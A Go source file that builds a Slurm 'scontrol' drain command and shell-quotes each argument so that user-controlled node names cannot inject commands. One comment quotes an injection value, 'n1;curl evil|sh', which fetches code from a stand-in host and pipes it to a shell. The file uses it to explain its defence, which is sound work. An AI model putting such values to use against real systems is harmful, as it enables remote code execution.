package slurm

import "strings"

// DrainHint is the command an admin may paste to drain nodes, with every
// argument quoted for a POSIX shell: the node names come from a run's
// history, which the run's user writes, and a name such as
// "n1;curl evil|sh" must reach scontrol as one argument, not run.
func DrainHint(nodes []string, reason string) string {
	return "scontrol update " + shellWord("nodename="+strings.Join(nodes, ",")) + " state=drain " + shellWord("reason="+reason)
}

// shellWord leaves a word of safe characters alone and single-quotes any
// other (a single quote inside it closes the quotes, is escaped, and reopens them).
func shellWord(s string) string {
	if s != "" && strings.Trim(s, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_@%+=:,./-[]") == "" {
		return s
	}
	return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'"
}
